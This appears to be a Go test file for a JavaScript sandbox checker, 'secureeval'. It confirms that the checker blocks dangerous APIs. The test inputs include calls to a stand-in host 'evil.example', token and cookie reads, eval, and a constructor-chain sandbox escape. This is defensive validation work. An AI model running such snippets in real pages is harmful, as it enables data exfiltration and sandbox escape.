package secureeval

import (
	"errors"
	"testing"
)

func TestCheckAllowsPlainSource(t *testing.T) {
	violations, err := Check("document.querySelector('#x').innerText")
	if err != nil {
		t.Fatalf("expected no error, got %v (violations=%v)", err, violations)
	}
	if len(violations) != 0 {
		t.Fatalf("expected no violations, got %v", violations)
	}
}

func TestCheckBlocksNetworkIO(t *testing.T) {
	cases := []string{
		`fetch('https://evil.example')`,
		`new XMLHttpRequest()`,
		`new WebSocket('wss://evil.example')`,
		`navigator.sendBeacon('/x')`,
	}
	for _, src := range cases {
		violations, err := Check(src)
		if !errors.Is(err, ErrBlockedApi) {
			t.Fatalf("source %q: expected ErrBlockedApi, got %v", src, err)
		}
		if len(violations) == 0 {
			t.Fatalf("source %q: expected at least one violation", src)
		}
	}
}

func TestCheckBlocksDynamicCode(t *testing.T) {
	cases := []string{
		`eval('2+2')`,
		`new Function('return 1')()`,
		`setTimeout("doEvil()", 100)`,
	}
	for _, src := range cases {
		if _, err := Check(src); !errors.Is(err, ErrBlockedApi) {
			t.Fatalf("source %q: expected ErrBlockedApi, got %v", src, err)
		}
	}
}

func TestCheckAllowsSetTimeoutWithFunction(t *testing.T) {
	if _, err := Check(`setTimeout(function() { return 1; }, 100)`); err != nil {
		t.Fatalf("expected function-argument setTimeout to be allowed, got %v", err)
	}
}

func TestCheckBlocksStorageAccess(t *testing.T) {
	cases := []string{
		`localStorage.getItem('token')`,
		`sessionStorage.setItem('a', 'b')`,
		`indexedDB.open('db')`,
		`document.cookie`,
	}
	for _, src := range cases {
		if _, err := Check(src); !errors.Is(err, ErrBlockedApi) {
			t.Fatalf("source %q: expected ErrBlockedApi, got nil", src)
		}
	}
}

func TestCheckBlocksPrototypeEscape(t *testing.T) {
	cases := []string{
		`({}).constructor.constructor('return this')()`,
		`obj.__proto__`,
		`Reflect.get(obj, 'x')`,
		`new Proxy({}, {})`,
	}
	for _, src := range cases {
		if _, err := Check(src); !errors.Is(err, ErrBlockedApi) {
			t.Fatalf("source %q: expected ErrBlockedApi, got nil", src)
		}
	}
}

func TestCheckBlocksWindowNavigation(t *testing.T) {
	cases := []string{
		`window.open('https://evil.example')`,
		`location.assign('https://evil.example')`,
		`document.write('<script>')`,
	}
	for _, src := range cases {
		if _, err := Check(src); !errors.Is(err, ErrBlockedApi) {
			t.Fatalf("source %q: expected ErrBlockedApi, got nil", src)
		}
	}
}

func TestCheckBlocksWorkers(t *testing.T) {
	cases := []string{
		`new Worker('worker.js')`,
		`new SharedWorker('worker.js')`,
		`importScripts('x.js')`,
	}
	for _, src := range cases {
		if _, err := Check(src); !errors.Is(err, ErrBlockedApi) {
			t.Fatalf("source %q: expected ErrBlockedApi, got nil", src)
		}
	}
}

func TestCheckFlagsDenseBracketObfuscation(t *testing.T) {
	src := `a["b"]["c"]["d"]["e"]["f"]`
	violations, err := Check(src)
	if !errors.Is(err, ErrBlockedApi) {
		t.Fatalf("expected ErrBlockedApi for obfuscated indexing, got %v", err)
	}
	found := false
	for _, v := range violations {
		if v.Category == "obfuscation" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected an obfuscation violation, got %v", violations)
	}
}

func TestCheckFlagsMassCharCode(t *testing.T) {
	src := `String.fromCharCode(97,108,101,114,116,40,49,41)`
	if _, err := Check(src); !errors.Is(err, ErrBlockedApi) {
		t.Fatalf("expected ErrBlockedApi for mass fromCharCode, got nil")
	}
}

func TestCheckReportsMultipleViolations(t *testing.T) {
	src := `eval(fetch('https://evil.example'))`
	violations, err := Check(src)
	if !errors.Is(err, ErrBlockedApi) {
		t.Fatalf("expected ErrBlockedApi, got %v", err)
	}
	if len(violations) < 2 {
		t.Fatalf("expected both eval and fetch flagged, got %v", violations)
	}
}
